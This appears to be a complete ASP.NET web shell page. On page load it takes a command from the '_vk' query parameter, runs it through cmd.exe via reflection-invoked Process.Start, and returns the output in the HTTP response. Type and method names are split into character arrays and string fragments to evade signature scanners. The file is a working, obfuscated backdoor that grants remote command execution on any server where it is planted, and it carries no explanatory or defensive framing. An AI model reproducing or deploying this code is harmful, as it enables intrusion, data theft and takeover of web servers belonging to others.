<%@ Page Language="C#" %>
<script runat="server">
    static System.Type Find(string n)
    {
        foreach (System.Reflection.Assembly a in System.AppDomain.CurrentDomain.GetAssemblies())
        {
            System.Type t = a.GetType(n, false);
            if (t != null) return t;
        }
        return null;
    }

    void Page_Load(object o, EventArgs e)
    {
        string x = Request.QueryString[new string(new char[] { '_', 'v', 'k' })];
        if (x == null) return;
        string b = string.Concat("Sys", "tem.", new string(new char[] { 'D', 'i', 'a', 'g', 'n', 'o', 's', 't', 'i', 'c', 's' }), ".");
        System.Type p = Find(string.Concat(b, new string(new char[] { 'P', 'r', 'o', 'c', 'e', 's', 's' })));
        System.Type i = Find(string.Concat(b, "Pro", "cess", "Start", "Info"));
        object si = System.Activator.CreateInstance(i, new object[] { new string(new char[] { 'c', 'm', 'd' }), string.Concat("/", "c", " ", x) });
        i.GetProperty(string.Concat("Use", "Shell", "Execute")).SetValue(si, false, null);
        i.GetProperty(string.Concat("Redirect", "Standard", "Output")).SetValue(si, true, null);
        var bf = System.Reflection.BindingFlags.Public;
        object pr = p.InvokeMember(string.Concat("St", "art"), bf | System.Reflection.BindingFlags.InvokeMethod | System.Reflection.BindingFlags.Static, null, null, new object[] { si });
        object so = p.InvokeMember(string.Concat("Standard", "Output"), bf | System.Reflection.BindingFlags.GetProperty | System.Reflection.BindingFlags.Instance, null, pr, null);
        Response.Write(((System.IO.TextReader)so).ReadToEnd());
    }
</script>
